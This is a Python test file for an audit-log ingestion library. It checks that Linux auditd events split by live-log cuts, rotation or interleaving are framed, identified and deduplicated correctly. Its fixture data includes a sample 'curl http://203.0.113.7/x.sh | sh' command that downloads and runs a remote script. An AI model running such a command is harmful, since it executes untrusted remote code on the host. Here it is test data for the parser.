"""Linux auditd: an event read in pieces (live log cut mid-event, rotation, far-apart records)
loses nothing, and reading the same bytes again still adds nothing."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import polars as pl
import pytest

from auditlake.ingest import ingest
from auditlake.lake import LakePaths, scan_events
from auditlake.sources import auditd, auditd_events
from auditlake.sources.base import Frame, Row
from auditlake.sources.records import normalize_frames

STAMP = "1700000100.000:900"
SYSCALL = (
    f"type=SYSCALL msg=audit({STAMP}): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 "
    "a3=0 items=1 ppid=1 pid=2 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm=\"bash\" "
    "exe=\"/usr/bin/bash\" subj=unconfined key=\"exec\""
)
EXECVE = f'type=EXECVE msg=audit({STAMP}): argc=3 a0="bash" a1="-c" a2="curl http://203.0.113.7/x.sh | sh"'
PATH = (
    f'type=PATH msg=audit({STAMP}): item=0 name="/usr/bin/bash" inode=1 dev=fd:00 mode=0100755 '
    "ouid=0 ogid=0 rdev=00:00 nametype=NORMAL"
)
PROCTITLE = f"type=PROCTITLE msg=audit({STAMP}): proctitle=62617368002D63"
EOE = f"type=EOE msg=audit({STAMP}):"
EVENT = [SYSCALL, EXECVE, PATH, PROCTITLE, EOE]
CMDLINE = "bash -c curl http://203.0.113.7/x.sh | sh"


def _text(lines: list[str]) -> bytes:
    return "".join(f"{line}\n" for line in lines).encode()


def _login(serial: int) -> str:
    """A user-space message: an event of one record, with no EOE."""
    return (
        f"type=USER_LOGIN msg=audit(1700000101.000:{serial}): pid=9 uid=0 auid=4294967295 "
        "ses=4294967295 msg='op=login acct=\"bob\" exe=\"/usr/sbin/sshd\" hostname=? "
        "addr=203.0.113.9 terminal=sshd res=failed'"
    )


def _openat(serial: int) -> list[str]:
    """A complete syscall event of three records."""
    stamp = f"1700000102.000:{serial}"
    return [
        f"type=SYSCALL msg=audit({stamp}): arch=c000003e syscall=257 success=yes exit=3 auid=1000 uid=1000 ses=3",
        f'type=PATH msg=audit({stamp}): item=0 name="/tmp/f{serial}" nametype=NORMAL',
        f"type=EOE msg=audit({stamp}):",
    ]


def _rows(frames: Iterator[Frame] | list[Frame]) -> list[Row]:
    out = list(normalize_frames(auditd.SPEC, frames))
    rows = [r for r in out if isinstance(r, dict)]
    assert len(rows) == len(out), [r for r in out if not isinstance(r, dict)]
    return rows


def _ingest(folder: Path, lake: LakePaths) -> tuple[int, int]:
    summary = ingest([folder], lake, workers=1)
    assert not summary.errors and not summary.quarantined
    return summary.added, sum(summary.duplicates.values())


def _lake_rows(lake: LakePaths) -> list[Row]:
    columns = ["event_uid", "correlation_id", "action", "actor_id", "cmdline", "raw"]
    return scan_events(lake, columns=columns).collect().sort("event_uid").to_dicts()


# ------------------------------------------------------------------------------ lake level


def test_a_live_log_cut_mid_event_keeps_the_rest_when_it_comes(tmp_path: Path) -> None:
    """auditd flushes in batches, so a scheduled ingest often reads a file ending mid-event."""
    folder = tmp_path / "audit"
    folder.mkdir()
    log = folder / "audit.log"
    lake = LakePaths.at(tmp_path / "lake")
    log.write_bytes(_text([SYSCALL]))
    assert _ingest(folder, lake) == (1, 0)
    assert _ingest(folder, lake) == (0, 1)  # the same bytes again: nothing new
    log.write_bytes(_text(EVENT))
    assert _ingest(folder, lake) == (1, 0)  # the whole event is not the piece read before
    rows = _lake_rows(lake)
    assert {r["correlation_id"] for r in rows} == {f":{STAMP}"}
    whole = next(r for r in rows if r["cmdline"] is not None)
    assert whole["cmdline"] == CMDLINE and whole["raw"] == "\n".join(EVENT)
    assert whole["action"] == "SYSCALL:execve" and whole["actor_id"] == "0"  # uid=0, under auid=1000


def test_an_event_split_by_rotation_lands_both_pieces(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "audit.log.1").write_bytes(_text([SYSCALL, EXECVE]))
    (folder / "audit.log").write_bytes(_text([PATH, PROCTITLE, EOE]))
    lake = LakePaths.at(tmp_path / "lake")
    assert _ingest(folder, lake) == (2, 0)
    assert _ingest(folder, lake) == (0, 2)
    rows = _lake_rows(lake)
    assert {r["correlation_id"] for r in rows} == {f":{STAMP}"}
    head = next(r for r in rows if r["cmdline"] is not None)
    tail = next(r for r in rows if r["cmdline"] is None)
    assert (head["cmdline"], head["action"], head["actor_id"]) == (CMDLINE, "SYSCALL:execve", "0")
    assert tail["raw"] == "\n".join([PATH, PROCTITLE, EOE])


# ------------------------------------------------------------------------------ framing


def test_records_hundreds_of_lines_apart_are_one_event() -> None:
    busy: list[str] = []
    for serial in range(200):
        busy += [_login(2 * serial), *_openat(2 * serial + 1)]
    lines = [SYSCALL, *busy, EXECVE, PATH, PROCTITLE, EOE]
    assert len(busy) == 800
    rows = _rows(auditd_events.frame_lines(_text(lines).splitlines(keepends=True), "busy.log"))
    assert len(rows) == 1 + 400
    execve = rows[0]
    assert execve["raw"] == "\n".join(EVENT) and execve["cmdline"] == CMDLINE


def test_records_beyond_the_window_land_as_two_rows_of_one_event() -> None:
    lines = [SYSCALL, EXECVE, *(_login(s) for s in range(5)), PATH, PROCTITLE, EOE]
    rows = _rows(auditd_events.frame_lines(_text(lines).splitlines(keepends=True), "x", stale_after=3))
    pieces = [r for r in rows if r["correlation_id"] == f":{STAMP}"]
    assert [p["raw"] for p in pieces] == ["\n".join(EVENT[:2]), "\n".join(EVENT[2:])]
    assert len({p["event_uid"] for p in pieces}) == 2
    assert pieces[0]["cmdline"] == CMDLINE


def test_a_user_message_is_yielded_without_waiting_for_more_lines() -> None:
    consumed: list[int] = []

    def lines() -> Iterator[bytes]:
        for number, line in enumerate([_login(1), *(_login(s) for s in range(2, 100))], start=1):
            consumed.append(number)
            yield f"{line}\n".encode()

    first = next(auditd_events.frame_lines(lines(), "live"))
    assert first.location == "live:1" and len(consumed) == 1


def test_a_kernel_record_without_eoe_waits_for_the_rest_of_its_event() -> None:
    login = f"type=LOGIN msg=audit({STAMP}): pid=2 uid=0 old-auid=4294967295 auid=1000 tty=(none) old-ses=4294967295 ses=3 res=1"
    lines = [login, *(_login(s) for s in range(10)), SYSCALL, PROCTITLE, EOE]
    frames = list(auditd_events.frame_lines(_text(lines).splitlines(keepends=True), "x"))
    assert frames[0].raw == "\n".join([login, SYSCALL, PROCTITLE, EOE]).encode()


def test_held_records_stay_under_the_byte_bound(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(auditd_events, "MAX_HELD_BYTES", 2_000)
    lines = [SYSCALL, *(line for s in range(20) for line in _openat(s)), EXECVE, EOE]
    frames = list(auditd_events.frame_lines(_text(lines).splitlines(keepends=True), "x"))
    ours = [f.raw for f in frames if STAMP.encode() in f.raw]
    assert ours == [SYSCALL.encode(), "\n".join([EXECVE, EOE]).encode()]  # went out unfinished
    assert sum(f.raw.count(b"\n") + 1 for f in frames) == len(lines)  # and nothing was lost


# ------------------------------------------------------------------------------ identity


def _pieces() -> list[list[str]]:
    """Every run of consecutive records of EVENT, as a reading of part of it may hold them."""
    return [EVENT[i:j] for i in range(len(EVENT)) for j in range(i + 1, len(EVENT) + 1)]


def test_different_pieces_of_an_event_never_share_an_identity() -> None:
    rows = [_rows([Frame("\n".join(piece).encode(), "x:1")])[0] for piece in _pieces()]
    assert len({r["event_uid"] for r in rows}) == len(rows) == 15
    assert {r["correlation_id"] for r in rows} == {f":{STAMP}"}


def test_the_same_bytes_read_again_have_the_same_identity(tmp_path: Path) -> None:
    plain = tmp_path / "audit.log"
    plain.write_bytes(_text([*EVENT, _login(7)]).replace(b"\n", b"\r\n"))
    again = [r["event_uid"] for r in _rows(auditd.frames(plain))]
    assert again == [r["event_uid"] for r in _rows(auditd_events.frame_lines(_text([*EVENT, _login(7)]).splitlines(True), "y"))]


def test_the_identity_is_the_stamp_and_the_start_of_the_event_hash() -> None:
    row = _rows([Frame(_text(EVENT).rstrip(), "x:1")])[0]
    stamp, digest = row["event_uid"].split("/")
    assert stamp == row["correlation_id"] == f":{STAMP}"
    assert digest == row["event_hash"].hex()[: auditd.UID_DIGEST_CHARS]
    assert row["parser_version"] == "linux.auditd/2"


def test_events_of_the_same_stamp_on_two_nodes_stay_apart() -> None:
    web1 = [f"node=web1 {line}" for line in EVENT]
    web2 = [f"node=web2 {line}" for line in EVENT]
    rows = _rows(auditd_events.frame_lines(_text([*web1, *web2]).splitlines(True), "x"))
    assert [r["correlation_id"] for r in rows] == [f"web1:{STAMP}", f"web2:{STAMP}"]
    assert pl.Series([r["event_uid"] for r in rows]).n_unique() == 2
